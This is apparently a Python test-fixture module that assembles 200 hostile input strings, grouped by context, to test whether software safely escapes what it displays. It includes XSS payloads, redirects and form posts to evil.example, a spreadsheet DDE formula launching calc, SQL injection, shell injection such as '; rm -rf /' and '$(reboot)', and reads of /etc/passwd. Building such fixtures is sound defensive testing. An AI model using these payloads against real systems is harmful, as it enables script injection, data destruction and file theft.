"""Texts that somebody might write to break what shows them: 200 of them, one line each."""

from itertools import product
from typing import Final

_MARKUP: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=key>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<math><mtext></p><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
)
_TEMPLATES: Final = (
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{# comment",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%n",
    "%(name)s",
    "{0.__class__}",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\\",
    "\\\\",
    "\\n",
    "\\r\\nX-Injected: 1",
    "%0d%0aX-Injected: 1",
    "%3Cscript%3E",
)
_CALENDARS: Final = (
    "BEGIN:VEVENT",
    "END:VCALENDAR",
    "a;b",
    "a,b",
    "a:b",
    ";;;,,,:::",
    "DTSTART:20260101T000000Z",
    "\\nEND:VEVENT\\nBEGIN:VEVENT",
    "RRULE:FREQ=SECONDLY",
    "ATTACH:http://evil.example",
    "X-ALT-DESC;FMTTYPE=text/html:<b>",
)
_SHEETS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '"quoted"',
    "a,b,c",
    '","',
    '=HYPERLINK("http://evil.example","x")',
    "'=1",
)
_CHATS: Final = (
    "<!channel>",
    "<!everyone>",
    "<!here|here>",
    "<@U12345>",
    "<#C12345|general>",
    "<http://evil.example|innocent>",
    "*bold* _italic_ ~strike~",
    "`code` ```block```",
    ":bomb:",
    "> quote",
    "@channel @here",
    "&<>&amp;&lt;",
)
_LETTERS: Final = (
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u200b",
    "\ufeffmark",
    "\u2028separator\u2029",
    "\u0085next line",
    "a\u0300\u0301\u0302\u0303",
    "🧊🔥👩‍🚀",
    "ﷺ" * 20,
    "İıſß",
    "中文字符",
    "العربية",
    "עברית",
    "ZALGO t̷̢̛o̶",
    "\ufffd",
    "\U0010ffff",
)
_LOGS: Final = (
    '", "level": "error", "x": "',
    '{"a": 1}',
    "null",
    "true",
    "NaN",
    "[]",
    "' OR '1'='1",
    "'; DROP TABLE decisions; --",
    "1; ATTACH DATABASE 'x' AS y",
    "$(reboot)",
    "`reboot`",
    "| cat /etc/passwd",
    "; rm -rf /",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "-rf",
    "--version",
    "\u001b[31mred".replace("\u001b", "ESC"),
)
_SIZES: Final = ("x" * 500, "<" * 500, "&" * 500, "é" * 500, "🧊" * 250, " x ", "x" * 74 + "é" * 3, '"' * 500)

_SINGLE: Final = (*_MARKUP, *_TEMPLATES, *_CALENDARS, *_SHEETS, *_CHATS, *_LETTERS, *_LOGS, *_SIZES)
_ONCE_MORE: Final = (*_MARKUP, *_CHATS, *_CALENDARS)
_AROUND: Final = ("deploy {} now", '"{}"', "{}\u202e")

HOSTILE: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(
        [
            *_SINGLE,
            *(frame.format(text) for text, frame in product((*_MARKUP, *_CHATS, *_CALENDARS), _AROUND)),
        ]
    )
)[:200]
"""No two alike, 500 characters at most, and none with control characters: the API refuses those."""
